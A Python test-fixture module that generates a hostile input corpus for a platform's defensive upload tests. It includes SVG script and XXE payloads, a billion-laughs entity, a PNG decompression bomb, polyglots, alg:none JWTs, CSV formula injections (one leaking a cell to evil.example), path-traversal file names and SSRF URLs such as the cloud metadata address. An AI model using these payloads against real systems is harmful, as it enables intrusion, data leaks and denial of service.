"""The platform's own hostile corpus, generated in code: nothing binary is committed.

Each function returns the bytes (or text) of one kind of attack on an input: SVG that scripts, links out or
explodes, PNGs that decompress into gigabytes or are broken, polyglots, JSON and JWTs that are malformed,
huge or unsigned, CSV cells that spreadsheets run, and file names that try to leave their folder. The
tests in this folder send them to every upload and input of the platform.
"""

from __future__ import annotations

import base64
import io
import json
import struct
import zlib

from PIL import Image

# What a page would do if any script of ours or of the corpus ever ran: the browser test looks for it.
PWNED = "window.__pwned = 1"

# --- SVG ------------------------------------------------------------------------------------------------
SVG_HEAD = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">'


def svg(body: bytes) -> bytes:
    return SVG_HEAD + body + b'<circle cx="32" cy="32" r="30" fill="#1f5f8b"/></svg>'


SVG_SCRIPT = svg(b"<script>" + PWNED.encode() + b"</script>")
SVG_EVENT_HANDLERS = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="' + PWNED.encode() + b'">'
    b'<rect width="64" height="64" onmouseover="' + PWNED.encode() + b'" onclick="' + PWNED.encode() + b'"/>'
    b'<animate onbegin="' + PWNED.encode() + b'" attributeName="x" dur="1s"/>'
    b'<set attributeName="onmouseover" to="' + PWNED.encode() + b'"/><circle cx="32" cy="32" r="30"/></svg>'
)
SVG_JAVASCRIPT_HREF = svg(
    b'<a href="javascript:' + PWNED.encode() + b'"><text y="20">click</text></a>'
    b'<a xlink:href="javascript:' + PWNED.encode() + b'"><rect width="5" height="5"/></a>'
    b'<use href="data:image/svg+xml;base64,' + base64.b64encode(SVG_HEAD + b"<script>1</script></svg>") + b'"/>'
    b'<image href="https://evil.example/track.png" width="1" height="1"/>'
    b'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:1"/></foreignObject>'
    b'<style>@import url(https://evil.example/x.css); rect { background: url(javascript:1) }</style>'
)
SVG_XXE = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    + SVG_HEAD + b"<text>&xxe;</text></svg>"
)
SVG_EXTERNAL_DTD_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://127.0.0.1/evil.dtd"> %remote;]>'
    + SVG_HEAD + b"</svg>"
)
SVG_BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'.encode() for n in range(1, 10)
    )
    + b"]>" + SVG_HEAD + b"<text>&lol9;</text></svg>"
)


def svg_deep(depth: int = 5_000) -> bytes:
    return SVG_HEAD + b"<g>" * depth + b"</g>" * depth + b"</svg>"


def svg_many(count: int = 30_000) -> bytes:
    return SVG_HEAD + b"<g/>" * count + b"</svg>"


# Reads as SVG and carries a script as CDATA, so a lenient parser or a browser would run it.
SVG_JS_POLYGLOT = svg(b"<script type=\"text/javascript\"><![CDATA[/*<svg>*/" + PWNED.encode() + b";//]]></script>")

SVG_CORPUS = {
    "script": SVG_SCRIPT,
    "event-handlers": SVG_EVENT_HANDLERS,
    "javascript-href": SVG_JAVASCRIPT_HREF,
    "svg-js-polyglot": SVG_JS_POLYGLOT,
}
SVG_REFUSED = {
    "xxe": SVG_XXE,
    "external-entity": SVG_EXTERNAL_DTD_ENTITY,
    "billion-laughs": SVG_BILLION_LAUGHS,
    "deep-nesting": svg_deep(),
    "huge-element-count": svg_many(),
}


# --- PNG ------------------------------------------------------------------------------------------------
def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png(width: int = 256, height: int = 256, *, colour: tuple[int, int, int] = (31, 95, 139)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(out, format="PNG")
    return out.getvalue()


def png_bomb(side: int = 100_000) -> bytes:
    """A PNG whose header claims side × side pixels (10 gigapixels), in a few hundred bytes: the first rows
    of zeros compress to almost nothing, and the decoder would allocate everything before noticing."""
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (side * 3 + 1) * 4, 9)
    return PNG_SIGNATURE + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def png_broken_crc() -> bytes:
    data = bytearray(png(128, 128))
    data[29] ^= 0xFF  # the IHDR chunk's CRC
    return bytes(data)


def png_truncated() -> bytes:
    data = png(128, 128)
    return data[: len(data) // 2]


def png_html_polyglot() -> bytes:
    """A real PNG that is also an HTML page: a tEXt chunk and trailing bytes after IEND hold a script."""
    html = b"<html><body><script>" + PWNED.encode() + b"</script></body></html>"
    data = png(128, 128)
    iend = data.rindex(b"IEND") - 4
    return data[:iend] + _chunk(b"tEXt", b"Comment\x00" + html) + data[iend:] + html


PNG_REFUSED = {
    "bomb": png_bomb(),
    "broken-crc": png_broken_crc(),
    "truncated": png_truncated(),
}


def jpeg_with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "HostileCam"  # make
    exif[0x0112] = 6  # orientation: rotate 90° when shown
    exif[0x8825] = {1: "N", 2: (59.0, 19.0, 42.0), 3: "E", 4: (18.0, 4.0, 7.0)}  # GPS
    out = io.BytesIO()
    Image.new("RGB", (80, 40), (200, 30, 30)).save(out, format="JPEG", exif=exif, comment=b"secret-comment")
    return out.getvalue()


def oversize(megabytes: int) -> bytes:
    return b"%PDF-1.4\n" + b"0" * (megabytes * 1024 * 1024)


# --- JSON and JWT -----------------------------------------------------------------------------------------
JSON_MALFORMED = ['{"a": ', "{'single': 'quotes'}", "[1, 2,]", "\x00\x01", '{"a": NaN}', "\ufeff{", "{" * 10]


def json_deep(depth: int = 100_000) -> str:
    return "[" * depth + "]" * depth


def json_huge(megabytes: int = 3) -> str:
    return json.dumps({"name": "x" * (megabytes * 1024 * 1024)})


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


JWT_ALG_NONE = ".".join([
    _b64(b'{"alg":"none","typ":"JWT"}'),
    _b64(json.dumps({"iss": "https://evil.example", "vc": {"type": ["VerifiableCredential"]}}).encode()),
    "",
])
JWT_MALFORMED = ["a.b.c", "....", "eyJ.eyJ.", _b64(b"{") + "." + _b64(b"{") + ".x"]


def jwt_huge(megabytes: int = 3) -> str:
    return _b64(b'{"alg":"EdDSA"}') + "." + _b64(b"{" + b'"a":"' + b"x" * megabytes * 1024 * 1024 + b'"}') + ".sig"


# --- CSV and names ----------------------------------------------------------------------------------------
CSV_FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]

BIDI_NAMES = ["Anna\u202eexe.pdf", "Kurs\u2066admin\u2069", "Lena\u200f", "\u061cNamn", "Erik\u202aX\u202c"]
HTML_NAMES = [
    f"<script>{PWNED}</script>",
    f'"><img src=x onerror="{PWNED}">',
    f"<svg onload=\"{PWNED}\">",
    f"javascript:{PWNED}",
]

PATH_TRICKS = [
    "../../../etc/passwd.pdf",
    "/etc/passwd.pdf",
    "C:\\Windows\\System32\\intyg.pdf",
    "intyg\x00.html.pdf",
    "a" * 1000 + ".pdf",
    "CON.pdf",
    "NUL",
    "intyg\u202efdp.exe",
    ".htaccess",
]

PRIVATE_URLS = [
    "http://localhost/",
    "https://127.0.0.1/admin",
    "https://127.1/",
    "https://2130706433/",
    "https://0x7f.0.0.1/",
    "https://10.0.0.5/",
    "https://172.16.3.4/",
    "https://192.168.1.1/",
    "https://169.254.169.254/latest/meta-data/",
    "https://[::1]/",
    "https://[fe80::1]/",
    "https://[fc00::1]/",
    "https://[::ffff:127.0.0.1]/",
    "https://0.0.0.0/",
    "https://printer.local/",
    "https://wiki.internal/",
    "https://intranet/",
    "https://foo.localhost/",
    "https://100.64.0.1/",
    "https://240.0.0.1/",
]
